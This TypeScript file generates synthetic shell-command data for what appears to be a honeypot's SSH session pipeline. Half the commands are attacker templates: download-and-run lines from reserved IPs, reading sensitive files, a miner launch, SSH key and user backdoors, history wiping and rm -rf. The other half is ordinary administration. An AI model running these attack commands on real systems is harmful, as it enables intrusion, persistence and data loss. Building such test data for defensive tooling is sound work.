// SPDX-License-Identifier: AGPL-3.0-or-later
import { readFileSync } from 'node:fs';
import { Random } from '../random';
import { ADMIN_TOOLS, ATTACK_TOOLS, ORDINARY_PATHS, SENSITIVE_PATHS, WORDS, madeUpName } from './vocabulary';

const COMMANDS = 4_600;
const SEED = 20_260;

const ATTACK_STEPS: readonly ((random: Random) => string)[] = [
  (r) => `wget -q http://203.0.113.${r.below(256)}:${r.between(80, 65_000)}/${madeUpName(r)}.sh -O /tmp/.${madeUpName(r)}`,
  (r) => `curl -fsSL https://198.51.100.${r.below(256)}/${r.pick(WORDS)}/${madeUpName(r)} | sh`,
  (r) => `chmod ${r.pick(['+x', '777', '0755'])} /tmp/${madeUpName(r)}`,
  (r) => `cat ${r.pick(SENSITIVE_PATHS)}`,
  (r) => `echo "${r.text('ABCDEFGHabcdefgh0123456789+/', r.between(20, 120))}" | base64 -d > /dev/shm/${madeUpName(r)}`,
  (r) => `nohup ./${madeUpName(r)} -o pool.${madeUpName(r)}.example:${r.between(1000, 9999)} -u ${r.text('48abcdef', 40)} >/dev/null 2>&1 &`,
  (r) => `${r.pick(ATTACK_TOOLS)} -${r.text('abcinpstvz', r.between(1, 3))} 192.0.2.${r.below(256)}`,
  (r) => r.pick(['uname -a', 'id', 'w', 'ps aux', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m', 'ifconfig', 'netstat -anp']),
  (r) => `echo "ssh-rsa ${r.text('ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789+/', r.between(60, 160))} ${madeUpName(r)}" >> ~/.ssh/authorized_keys`,
  (r) => `useradd -m ${madeUpName(r)}; echo ${madeUpName(r)}:${madeUpName(r)} | chpasswd`,
  () => 'unset HISTFILE; history -c',
  (r) => `rm -rf ${r.pick(SENSITIVE_PATHS)} /tmp/*`,
];

const ADMIN_STEPS: readonly ((random: Random) => string)[] = [
  (r) => `${r.pick(ADMIN_TOOLS)} -${r.text('abcdefhilnrstvx', r.between(1, 3))} ${r.pick(ORDINARY_PATHS)}/${r.pick(WORDS)}`,
  (r) => `find ${r.pick(ORDINARY_PATHS)} -type f -name "*.${r.pick(['log', 'txt', 'bak', 'gz'])}" -mtime +${r.between(1, 90)} -exec ls -la {} \\;`,
  (r) => `docker run --rm -it -v ${r.pick(ORDINARY_PATHS)}:/data --name ${r.pick(WORDS)}-${r.below(100)} registry.example/${r.pick(WORDS)}:1.${r.below(90)}`,
  (r) => `tar czf /mnt/backup/${r.pick(WORDS)}-${r.between(1, 12)}.tar.gz ${r.pick(ORDINARY_PATHS)} --exclude='*.${r.pick(WORDS)}'`,
  (r) => `awk -F: '{ sum += $${r.between(1, 9)} } END { print sum / NR }' ${r.pick(ORDINARY_PATHS)} | sort -n | uniq -c | head -n ${r.between(5, 50)}`,
  (r) => `systemctl ${r.pick(['restart', 'status', 'enable', 'reload'])} ${r.pick(WORDS)}.service`,
  (r) => `rsync -avz --delete ${r.pick(ORDINARY_PATHS)}/ deploy@${r.pick(WORDS)}.example:${r.pick(ORDINARY_PATHS)}`,
  (r) => `git commit -am "${r.pick(WORDS)} ${r.pick(WORDS)}: fix the ${r.pick(WORDS)} ${r.pick(WORDS)}" && git push origin ${r.pick(WORDS)}`,
  (r) => `kubectl get pods -n ${r.pick(WORDS)} -o wide --sort-by=.metadata.${r.pick(WORDS)} | grep -v ${r.pick(WORDS)}`,
  (r) => `grep -rn "${r.pick(WORDS)}_${r.pick(WORDS)}" ${r.pick(ORDINARY_PATHS)} --include="*.${r.pick(['py', 'ts', 'conf'])}"`,
];

/** Distinct commands, half of attacks, half of administration, about 200 characters in the mean. */
export function generatedCorpus(): readonly string[] {
  const random = new Random(SEED);
  const commands = new Set<string>();
  while (commands.size < COMMANDS) {
    const steps = commands.size % 2 === 0 ? ATTACK_STEPS : ADMIN_STEPS;
    commands.add(Array.from({ length: random.between(1, 5) }, () => random.pick(steps)(random)).join(random.pick(['; ', ' && ', ' | ', '\n'])));
  }
  return [...commands];
}

/** Distinct commands of a file: NDJSON rows with a `commands` array, or one command a line. */
export function corpusOf(file: string): readonly string[] {
  const lines = readFileSync(file, 'utf8').split('\n').filter((line) => line !== '');
  return [...new Set(lines.flatMap(commandsOf))];
}

function commandsOf(line: string): readonly string[] {
  if (!line.startsWith('{')) return [line];
  const row = JSON.parse(line) as { commands?: readonly string[] };
  return row.commands ?? [];
}

/** The session event that brings one command, as it comes off the wire. */
export function eventOf(command: string, index: number): string {
  const session = `0f8fad5b-d9cb-469f-a165-${String(index).padStart(12, '0')}`;
  return JSON.stringify({
    v: 1,
    type: 'session.ended',
    ts: 1_767_607_210.25,
    payload: {
      session_id: session,
      attacker_uuid: null,
      attacker_ip: '203.0.113.7',
      decky_id: 'decky-03',
      service: 'ssh',
      ended_at: '2026-01-05T10:00:10.000000+00:00',
      duration_s: 42.5,
      commands: [
        {
          id: `${session}#0`,
          command_text: command,
          ts: '2026-01-05T10:00:00.500000+00:00',
          decky: 'decky-03',
          service: 'ssh',
          uid: '0',
          user: 'root',
          src: '203.0.113.7',
          pwd: '/root',
        },
      ],
      shard_path: null,
    },
  });
}
